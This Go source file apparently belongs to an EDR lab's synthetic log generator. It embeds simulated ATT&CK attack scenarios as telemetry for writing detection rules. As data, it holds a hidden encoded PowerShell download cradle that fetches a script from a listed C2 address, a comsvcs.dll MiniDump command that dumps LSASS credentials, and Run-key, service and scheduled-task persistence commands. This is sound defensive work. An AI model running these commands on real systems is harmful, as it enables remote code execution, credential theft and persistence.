package synth

import (
	"strings"

	"github.com/edr-lab/edr/event"
)

// Indicators used by the scenarios. The domain and addresses are listed as
// C2 indicators in Florian Roth's signature-base (c2-iocs.txt); benign
// activity never produces them.
const (
	c2Domain  = "update.micrdsoft.com"
	c2IP      = "103.229.124.1"
	c2IPAlt   = "58.64.143.244" // stager download of the encoded PowerShell
	c2Beacons = 6
)

// Scenario describes one embedded attack so that rules can be written to
// detect it: its ATT&CK technique and, per event it emits, the key field
// values. Fields not listed vary per run (host, user, PIDs, GUIDs, times).
type Scenario struct {
	Name        string
	Technique   string // ATT&CK technique ID
	Tactic      string // ATT&CK tactic (Sigma tag spelling)
	Description string
	Events      []ScenarioEvent
}

// ScenarioEvent is one event a scenario emits. Only events with Key
// values identify the scenario; others (process exits, context) have none.
type ScenarioEvent struct {
	Channel string
	EventID uint16
	What    string
	Key     []Match
}

// Match is a condition on a field value, case-insensitive like Sigma's
// default string matching. Op is equals, contains, startswith or endswith.
type Match struct {
	Field string
	Op    string
	Value string
}

// Matches reports whether e satisfies the condition.
func (m Match) Matches(e *event.Event) bool {
	v, ok := e.Lookup(m.Field)
	if !ok {
		return false
	}
	if m.Op == "equals" {
		return strings.EqualFold(v, m.Value)
	}
	v, want := strings.ToLower(v), strings.ToLower(m.Value)
	switch m.Op {
	case "contains":
		return strings.Contains(v, want)
	case "startswith":
		return strings.HasPrefix(v, want)
	case "endswith":
		return strings.HasSuffix(v, want)
	}
	return false
}

// Matches reports whether e is this scenario event: same channel and
// EventID and every key condition holds. Events without keys never match.
func (s ScenarioEvent) Matches(e *event.Event) bool {
	if len(s.Key) == 0 || e.Channel != s.Channel || e.EventID != s.EventID {
		return false
	}
	for _, m := range s.Key {
		if !m.Matches(e) {
			return false
		}
	}
	return true
}

// Scenarios describes every embedded attack scenario, in a fixed order.
func Scenarios() []Scenario {
	out := make([]Scenario, len(scenarioDefs))
	for i, d := range scenarioDefs {
		out[i] = d.Scenario
	}
	return out
}

type scenarioDef struct {
	Scenario
	run func(g *Generator, h *host, sc *scenarioRun)
	// steps is how many events run schedules, known before it runs so
	// that a scenario that would not fit in the event budget is not
	// started (TestScenarioStepCounts keeps it honest).
	steps int
}

// scenarioRun schedules a scenario's events on a host, spaced in time.
type scenarioRun struct {
	g     *Generator
	h     *host
	idx   int
	at    int64
	quiet []*proc
	left  int // steps scheduled and not yet emitted
}

// then schedules fn after delay (ns) from the previous event of the run.
func (sc *scenarioRun) then(delay int64, fn func(g *Generator, h *host, e *event.Event)) {
	sc.at += delay
	sc.left++
	sc.g.pendingScen++
	sc.h.schedule(&step{at: sc.at, fn: fn, scen: sc.idx + 1, run: sc})
}

// spawn schedules the Sysmon 1 of a new scenario process and returns it;
// the process is kept out of background activity.
func (sc *scenarioRun) spawn(delay int64, path, ofn, desc string, parent *proc, acct *account, cmd string) *proc {
	h, g := sc.h, sc.g
	im := h.images[strings.ToLower(path[strings.LastIndexByte(path, '\\')+1:])]
	if im == nil || !strings.EqualFold(im.path, path) {
		im = &image{path: path, base: strings.ToLower(path[strings.LastIndexByte(path, '\\')+1:]), ofn: ofn, desc: desc,
			product: "-", company: "-", version: "-", fileClass: classSystem, cmds: []string{cmd}, net: netNone, regClass: -1}
		im.hashes = g.cat.hashesFor("scenario|" + path)
	}
	p := g.newProc(h, im, parent, acct, cmd, sc.at+delay)
	p.quiet = true
	sc.quiet = append(sc.quiet, p)
	sc.then(delay, func(g *Generator, h *host, e *event.Event) { g.startProc(h, p, e) })
	return p
}

// exit schedules the Sysmon 5 of a scenario process.
func (sc *scenarioRun) exit(delay int64, p *proc) {
	sc.then(delay, func(g *Generator, h *host, e *event.Event) {
		h.remove(p)
		g.sysmon(e, h, 5)
		subjectProc(e, p)
	})
}

const ms = int64(1e6)

var (
	psPath     = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	cmdPath    = `C:\Windows\System32\cmd.exe`
	stagerText = `$wc = New-Object System.Net.WebClient; $wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)'); IEX $wc.DownloadString('http://` + c2IPAlt + `/s/a.ps1')`
	stagerB64  = encodePowerShell(stagerText)
	dumpPath   = `C:\Users\Public\Music\lsass.dmp`
	implantRel = `\AppData\Roaming\Microsoft\Network\msupdate.exe`
	svcName    = "WinUpdateSvc"
	svcPath    = `C:\Windows\Temp\wupdsvc.exe`
	taskName   = `\Microsoft\Windows\Maintenance\SystemHealthCheck`
	taskCmd    = `C:\ProgramData\SystemHealth\healthcheck.exe`
)

var scenarioDefs = []scenarioDef{
	{Scenario{Name: "encoded_powershell", Technique: "T1059.001", Tactic: "execution",
		Description: "cmd.exe starts a hidden PowerShell with -enc (base64 of the UTF-16LE script); the script block log shows a WebClient download cradle; PowerShell connects to the stager address.",
		Events: []ScenarioEvent{
			{event.ChannelSysmon, 1, "cmd.exe launching PowerShell", nil},
			{event.ChannelSysmon, 1, "powershell.exe -enc", []Match{{"Image", "endswith", `\powershell.exe`},
				{"CommandLine", "contains", " -enc "}, {"CommandLine", "contains", stagerB64}}},
			{event.ChannelPowerShell, 4104, "script block of the decoded stager", []Match{
				{"ScriptBlockText", "contains", "New-Object System.Net.WebClient"}, {"ScriptBlockText", "contains", ".DownloadString("},
				{"ScriptBlockText", "contains", "IEX "}}},
			{event.ChannelSysmon, 3, "stager download", []Match{{"Image", "endswith", `\powershell.exe`},
				{"DestinationIp", "equals", c2IPAlt}, {"DestinationPort", "equals", "80"}}},
		}}, runEncodedPowerShell, 4},
	{Scenario{Name: "lsass_dump", Technique: "T1003.001", Tactic: "credential-access",
		Description: "An elevated PowerShell runs rundll32 comsvcs.dll MiniDump against lsass.exe: process creation (Sysmon 1 and Security 4688), comsvcs.dll load, process access to lsass with 0x1fffff, the dump file written.",
		Events: []ScenarioEvent{
			{event.ChannelSysmon, 1, "elevated PowerShell", nil},
			{event.ChannelSysmon, 1, "rundll32 comsvcs MiniDump", []Match{{"Image", "endswith", `\rundll32.exe`},
				{"CommandLine", "contains", "comsvcs.dll"}, {"CommandLine", "contains", "MiniDump"}, {"IntegrityLevel", "equals", "High"}}},
			{event.ChannelSecurity, 4688, "rundll32 comsvcs MiniDump (process auditing)", []Match{{"NewProcessName", "endswith", `\rundll32.exe`},
				{"CommandLine", "contains", "comsvcs.dll, MiniDump"}}},
			{event.ChannelSysmon, 7, "comsvcs.dll loaded by rundll32", []Match{{"Image", "endswith", `\rundll32.exe`},
				{"ImageLoaded", "endswith", `\comsvcs.dll`}}},
			{event.ChannelSysmon, 10, "lsass opened with full access", []Match{{"SourceImage", "endswith", `\rundll32.exe`},
				{"TargetImage", "endswith", `\lsass.exe`}, {"GrantedAccess", "equals", "0x1fffff"}, {"CallTrace", "contains", "comsvcs.dll"}}},
			{event.ChannelSysmon, 11, "dump file written", []Match{{"Image", "endswith", `\rundll32.exe`},
				{"TargetFilename", "equals", dumpPath}}},
			{event.ChannelSysmon, 5, "rundll32 exits", nil},
		}}, runLsassDump, 7},
	{Scenario{Name: "runkey_persistence", Technique: "T1547.001", Tactic: "persistence",
		Description: "PowerShell drops an implant into the user's roaming profile and reg.exe adds it to HKCU\\...\\CurrentVersion\\Run (seen as HKU\\<SID>\\... in Sysmon 13).",
		Events: []ScenarioEvent{
			{event.ChannelSysmon, 1, "user PowerShell", nil},
			{event.ChannelSysmon, 11, "implant written", []Match{{"Image", "endswith", `\powershell.exe`},
				{"TargetFilename", "endswith", implantRel}}},
			{event.ChannelSysmon, 1, "reg.exe add Run value", []Match{{"Image", "endswith", `\reg.exe`},
				{"CommandLine", "contains", ` add `}, {"CommandLine", "contains", `\CurrentVersion\Run`}, {"CommandLine", "contains", "msupdate.exe"}}},
			{event.ChannelSysmon, 13, "Run value set", []Match{{"Image", "endswith", `\reg.exe`}, {"EventType", "equals", "SetValue"},
				{"TargetObject", "contains", `\Software\Microsoft\Windows\CurrentVersion\Run\`}, {"TargetObject", "endswith", `\MicrosoftUpdate`},
				{"Details", "endswith", implantRel}}},
		}}, runRunKey, 5},
	{Scenario{Name: "service_install", Technique: "T1543.003", Tactic: "persistence",
		Description: "An elevated cmd runs sc.exe create for a service whose binary lives in C:\\Windows\\Temp; services.exe records ImagePath, System 7045 and Security 4697 report the install, the service starts.",
		Events: []ScenarioEvent{
			{event.ChannelSysmon, 1, "elevated cmd.exe", nil},
			{event.ChannelSysmon, 1, "sc.exe create", []Match{{"Image", "endswith", `\sc.exe`}, {"CommandLine", "contains", " create "},
				{"CommandLine", "contains", "binPath="}, {"CommandLine", "contains", svcName}}},
			{event.ChannelSysmon, 13, "service ImagePath written", []Match{{"Image", "endswith", `\services.exe`},
				{"TargetObject", "endswith", `\Services\` + svcName + `\ImagePath`}, {"Details", "equals", svcPath}}},
			{event.ChannelSystem, 7045, "service installed", []Match{{"ServiceName", "equals", svcName}, {"ImagePath", "equals", svcPath},
				{"StartType", "equals", "auto start"}, {"AccountName", "equals", "LocalSystem"}}},
			{event.ChannelSecurity, 4697, "service installed (audit)", []Match{{"ServiceName", "equals", svcName},
				{"ServiceFileName", "equals", svcPath}}},
			{event.ChannelSysmon, 1, "service binary started", []Match{{"Image", "equals", svcPath},
				{"ParentImage", "endswith", `\services.exe`}}},
		}}, runServiceInstall, 6},
	{Scenario{Name: "scheduled_task", Technique: "T1053.005", Tactic: "persistence",
		Description: "An elevated cmd runs schtasks /create for a logon task running as SYSTEM from C:\\ProgramData; Task Scheduler 106 and Security 4698 record it, the task file is written.",
		Events: []ScenarioEvent{
			{event.ChannelSysmon, 1, "elevated cmd.exe", nil},
			{event.ChannelSysmon, 1, "schtasks /create", []Match{{"Image", "endswith", `\schtasks.exe`}, {"CommandLine", "contains", "/create"},
				{"CommandLine", "contains", taskCmd}}},
			{event.ChannelTaskScheduler, 106, "task registered", []Match{{"TaskName", "equals", taskName}}},
			{event.ChannelSecurity, 4698, "task created (audit)", []Match{{"TaskName", "equals", taskName},
				{"TaskContent", "contains", taskCmd}}},
			{event.ChannelSysmon, 11, "task file written", []Match{{"TargetFilename", "equals", `C:\Windows\System32\Tasks` + taskName}}},
		}}, runScheduledTask, 5},
	{Scenario{Name: "whoami_discovery", Technique: "T1033", Tactic: "discovery",
		Description: "A user shell runs whoami /all (the seed's example rule); seen by Sysmon 1 and Security 4688.",
		Events: []ScenarioEvent{
			{event.ChannelSysmon, 1, "cmd.exe", nil},
			{event.ChannelSysmon, 1, "whoami /all", []Match{{"Image", "endswith", `\whoami.exe`}, {"OriginalFileName", "equals", "whoami.exe"},
				{"CommandLine", "contains", "/all"}}},
			{event.ChannelSecurity, 4688, "whoami /all (process auditing)", []Match{{"NewProcessName", "endswith", `\whoami.exe`},
				{"CommandLine", "contains", "/all"}}},
		}}, runWhoami, 4},
	{Scenario{Name: "c2_beacon", Technique: "T1071.001", Tactic: "command-and-control",
		Description: "An implant in the user's roaming profile resolves a known C2 domain and beacons to it over HTTPS at a regular interval (2000 × MeanGap, ±10 %).",
		Events: []ScenarioEvent{
			{event.ChannelSysmon, 1, "implant starts", []Match{{"Image", "endswith", implantRel}, {"ParentImage", "endswith", `\explorer.exe`}}},
			{event.ChannelSysmon, 22, "C2 domain resolved", []Match{{"QueryName", "equals", c2Domain},
				{"QueryResults", "contains", "::ffff:" + c2IP + ";"}}},
			{event.ChannelSysmon, 3, "beacon (repeated)", []Match{{"Image", "endswith", implantRel}, {"DestinationIp", "equals", c2IP},
				{"DestinationPort", "equals", "443"}}},
		}}, runC2Beacon, 2 + c2Beacons},
}

func runEncodedPowerShell(g *Generator, h *host, sc *scenarioRun) {
	cmd := sc.spawn(0, cmdPath, "Cmd.Exe", "Windows Command Processor", h.explorer, h.user,
		`C:\Windows\system32\cmd.exe /c powershell.exe -nop -w hidden -enc `+stagerB64)
	ps := sc.spawn(40*ms, psPath, "PowerShell.EXE", "Windows PowerShell", cmd, h.user,
		`powershell.exe  -nop -w hidden -enc `+stagerB64)
	sc.then(350*ms, func(g *Generator, h *host, e *event.Event) { g.scriptBlock(h, e, ps, stagerText, "") })
	sc.then(600*ms, func(g *Generator, h *host, e *event.Event) {
		g.sysmon(e, h, 3)
		subjectProc(e, ps)
		c := conn{proto: "tcp", initiated: true, srcIP: h.ip, srcHost: h.fqdn, srcPort: 49152 + h.r.intn(16384),
			dstIP: c2IPAlt, dstHost: "-", dstPort: 80}
		c.render(g, e)
	})
}

func runLsassDump(g *Generator, h *host, sc *scenarioRun) {
	ps := sc.spawn(0, psPath, "PowerShell.EXE", "Windows PowerShell", h.explorer, h.userHigh, `"`+psPath+`" `)
	cmd := `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump ` + h.lsass.pidS + ` ` + dumpPath + ` full`
	rd := sc.spawn(20*1000*ms, `C:\Windows\System32\rundll32.exe`, "RUNDLL32.EXE", "Windows host process (Rundll32)", ps, h.userHigh, cmd)
	sc.then(2*ms, func(g *Generator, h *host, e *event.Event) { g.processAudit(h, e, rd) })
	comsvcs := &module{path: `C:\Windows\System32\comsvcs.dll`, ofn: "comsvcs.dll", desc: "COM+ Services",
		product: "Microsoft® Windows® Operating System", company: "Microsoft Corporation", version: winVersion("comsvcs.dll"),
		hashes: g.cat.hashesFor("comsvcs.dll"), signature: "Microsoft Windows"}
	sc.then(15*ms, func(g *Generator, h *host, e *event.Event) { g.moduleLoad(h, e, rd, comsvcs) })
	sc.then(30*ms, func(g *Generator, h *host, e *event.Event) {
		g.sysmon(e, h, 10)
		e.Set(fSourceProcessGUID, rd.guid)
		e.Set(fSourceProcessId, rd.pidS)
		e.Set(fSourceThreadId, event.Itoa(uint64(h.r.intn(20000)+100)))
		e.Set(fSourceImage, rd.path)
		e.Set(fTargetProcessGUID, h.lsass.guid)
		e.Set(fTargetProcessId, h.lsass.pidS)
		e.Set(fTargetImage, `C:\Windows\system32\lsass.exe`)
		e.Set(fGrantedAccess, "0x1fffff")
		e.Set(fCallTrace, `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+3f9f|C:\Windows\System32\comsvcs.dll+1a0b|C:\Windows\System32\rundll32.exe+3bd4|C:\Windows\System32\KERNEL32.DLL+17034|C:\Windows\SYSTEM32\ntdll.dll+52651`)
		e.Set(fSourceUser, rd.acct.name)
		e.Set(fTargetUser, h.system.name)
	})
	sc.then(900*ms, func(g *Generator, h *host, e *event.Event) {
		g.sysmon(e, h, 11)
		subjectProc(e, rd)
		e.Set(fTargetFilename, dumpPath)
		e.Set(fCreationUtcTime, g.utc.format(h.now))
	})
	sc.exit(400*ms, rd)
}

func runRunKey(g *Generator, h *host, sc *scenarioRun) {
	implant := h.user.home + implantRel
	ps := sc.spawn(0, psPath, "PowerShell.EXE", "Windows PowerShell", h.explorer, h.user, `"`+psPath+`" -w hidden`)
	sc.then(2500*ms, func(g *Generator, h *host, e *event.Event) {
		g.sysmon(e, h, 11)
		subjectProc(e, ps)
		e.Set(fTargetFilename, implant)
		e.Set(fCreationUtcTime, g.utc.format(h.now))
	})
	reg := sc.spawn(1200*ms, `C:\Windows\System32\reg.exe`, "reg.exe", "Registry Console Tool", ps, h.user,
		`"C:\Windows\system32\reg.exe" add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v MicrosoftUpdate /t REG_SZ /d "`+implant+`" /f`)
	sc.then(20*ms, func(g *Generator, h *host, e *event.Event) {
		g.sysmon(e, h, 13)
		e.Set(fEventType, "SetValue")
		subjectProc(e, reg)
		e.Set(fTargetObject, `HKU\`+h.user.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\MicrosoftUpdate`)
		e.Set(fDetails, implant)
	})
	sc.exit(10*ms, reg)
}

func runServiceInstall(g *Generator, h *host, sc *scenarioRun) {
	cmd := sc.spawn(0, cmdPath, "Cmd.Exe", "Windows Command Processor", h.explorer, h.userHigh, `"C:\Windows\system32\cmd.exe" `)
	sc.spawn(3000*ms, `C:\Windows\System32\sc.exe`, "sc.exe", "Service Control Manager Configuration Tool", cmd, h.userHigh,
		`sc.exe  create `+svcName+` binPath= "`+svcPath+`" start= auto DisplayName= "Windows Update Helper"`)
	sc.then(30*ms, func(g *Generator, h *host, e *event.Event) {
		g.sysmon(e, h, 13)
		e.Set(fEventType, "SetValue")
		subjectProc(e, h.services)
		e.Set(fTargetObject, `HKLM\System\CurrentControlSet\Services\`+svcName+`\ImagePath`)
		e.Set(fDetails, svcPath)
	})
	sc.then(5*ms, func(g *Generator, h *host, e *event.Event) {
		g.serviceInstalled(h, e, h.userHigh, svcName, svcPath, "user mode service", "auto start", "LocalSystem")
	})
	sc.then(3*ms, func(g *Generator, h *host, e *event.Event) {
		g.serviceAudit(h, e, cmd, svcName, svcPath, "0x10", "2", "LocalSystem")
	})
	sc.spawn(2000*ms, svcPath, "wupdsvc.exe", "-", h.services, h.system, svcPath)
}

func runScheduledTask(g *Generator, h *host, sc *scenarioRun) {
	cmd := sc.spawn(0, cmdPath, "Cmd.Exe", "Windows Command Processor", h.explorer, h.userHigh, `"C:\Windows\system32\cmd.exe" `)
	st := sc.spawn(4000*ms, `C:\Windows\System32\schtasks.exe`, "schtasks.exe", "Task Scheduler Configuration Tool", cmd, h.userHigh,
		`schtasks  /create /tn "`+taskName+`" /tr "`+taskCmd+`" /sc onlogon /ru SYSTEM /rl HIGHEST /f`)
	content := taskXML(h.user.domain+`\`+h.user.user, "S-1-5-18", "HighestAvailable",
		"<LogonTrigger>\r\n      <Enabled>true</Enabled>\r\n    </LogonTrigger>", taskCmd, "")
	sc.then(40*ms, func(g *Generator, h *host, e *event.Event) { g.taskRegistered(h, e, taskName, h.userHigh) })
	sc.then(2*ms, func(g *Generator, h *host, e *event.Event) { g.taskCreated(h, e, st, taskName, content) })
	sc.then(3*ms, func(g *Generator, h *host, e *event.Event) {
		sched := h.svchosts[3]
		g.sysmon(e, h, 11)
		subjectProc(e, sched)
		e.Set(fTargetFilename, `C:\Windows\System32\Tasks`+taskName)
		e.Set(fCreationUtcTime, g.utc.format(h.now))
	})
}

func runWhoami(g *Generator, h *host, sc *scenarioRun) {
	cmd := sc.spawn(0, cmdPath, "Cmd.Exe", "Windows Command Processor", h.explorer, h.user, `"C:\Windows\system32\cmd.exe" `)
	w := sc.spawn(6000*ms, `C:\Windows\System32\whoami.exe`, "whoami.exe", "whoami - displays logged on user information", cmd, h.user,
		`whoami /all`)
	sc.then(1*ms, func(g *Generator, h *host, e *event.Event) { g.processAudit(h, e, w) })
	sc.exit(60*ms, w)
}

func runC2Beacon(g *Generator, h *host, sc *scenarioRun) {
	implant := h.user.home + implantRel
	p := sc.spawn(0, implant, "msupdate.exe", "-", h.explorer, h.user, `"`+implant+`" `)
	sc.then(120*ms, func(g *Generator, h *host, e *event.Event) {
		g.sysmon(e, h, 22)
		e.Set(fProcessGuid, p.guid)
		e.Set(fProcessId, p.pidS)
		e.Set(fQueryName, c2Domain)
		e.Set(fQueryStatus, "0")
		e.Set(fQueryResults, "::ffff:"+c2IP+";")
		e.Set(fImage, p.path)
		e.Set(fUser, p.acct.name)
	})
	period := beaconPeriod(g.opt)
	for i := 0; i < c2Beacons; i++ {
		delay := 30 * ms
		if i > 0 {
			delay = period - period/10 + int64(h.r.intn(int(period/5/100)+1))*100
		}
		sc.then(delay, func(g *Generator, h *host, e *event.Event) {
			g.sysmon(e, h, 3)
			subjectProc(e, p)
			c := conn{proto: "tcp", initiated: true, srcIP: h.ip, srcHost: h.fqdn, srcPort: 49152 + h.r.intn(16384),
				dstIP: c2IP, dstHost: c2Domain, dstPort: 443}
			c.render(g, e)
		})
	}
}

func beaconPeriod(o Options) int64 { return 2000 * int64(o.MeanGap) }

// scenarioSpan bounds how long (event time) the longest scenario runs.
func scenarioSpan(o Options) int64 { return c2Beacons*beaconPeriod(o)*11/10 + 10_000*ms }

// MinEventsForAllScenarios is the smallest Events for which New places every
// scenario at least once (each completes before the last event).
func MinEventsForAllScenarios(o Options) int64 {
	o = o.withDefaults()
	tail := scenarioSpan(o) / int64(o.MeanGap) * int64(o.Hosts) * 3 / 2
	return tail*10/8 + 1000
}

// planScenarios places one run of every scenario when the run is long
// enough (the slowest, c2_beacon, first), then random runs at the
// ScenarioEvery rate.
func (g *Generator) planScenarios() {
	if g.opt.ScenarioEvery < 0 {
		return
	}
	if n := g.opt.Events; n > 0 && n >= MinEventsForAllScenarios(g.opt) {
		last := len(scenarioDefs) - 1 // c2_beacon
		g.forced = append(g.forced, forcedRun{at: n / 10, scen: last})
		lo, hi := n*15/100, n*6/10
		for i := 0; i < last; i++ {
			g.forced = append(g.forced, forcedRun{at: lo + (hi-lo)*int64(i)/int64(last), scen: i})
		}
	}
	g.nextRandom = 1 + int64(g.r.intn(int(min(2*g.opt.ScenarioEvery, 1<<31-1))))
}

func (g *Generator) maybeStartScenario() {
	for len(g.forced) > 0 && g.forced[0].at <= g.n {
		g.startScenario(g.forced[0].scen)
		g.forced = g.forced[1:]
	}
	if g.nextRandom >= 0 && g.nextRandom <= g.n {
		g.startScenario(g.r.intn(len(scenarioDefs)))
		g.nextRandom = g.n + 1 + int64(g.r.intn(int(min(2*g.opt.ScenarioEvery, 1<<31-1))))
	}
}

// startScenario runs a scenario on a workstation, starting at the current
// time, and restores the heap order (the host's next event moved earlier).
//
// A scenario whose events would not all fit in the rest of the event
// budget (after the steps of scenarios already started) is not started:
// the recording holds every event of the scenarios it holds any of.
func (g *Generator) startScenario(i int) {
	if g.opt.Events > 0 && g.n+g.pendingScen+int64(scenarioDefs[i].steps) > g.opt.Events {
		return
	}
	var ws []*host
	for _, h := range g.hosts {
		if h.role == roleWorkstation {
			ws = append(ws, h)
		}
	}
	if len(ws) == 0 {
		ws = g.hosts
	}
	h := ws[g.r.intn(len(ws))]
	now := g.heap[0].due()
	if h.now > now {
		now = h.now
	}
	sc := &scenarioRun{g: g, h: h, idx: i, at: now}
	scenarioDefs[i].run(g, h, sc)
	for j := len(g.heap)/2 - 1; j >= 0; j-- {
		g.down(j)
	}
}
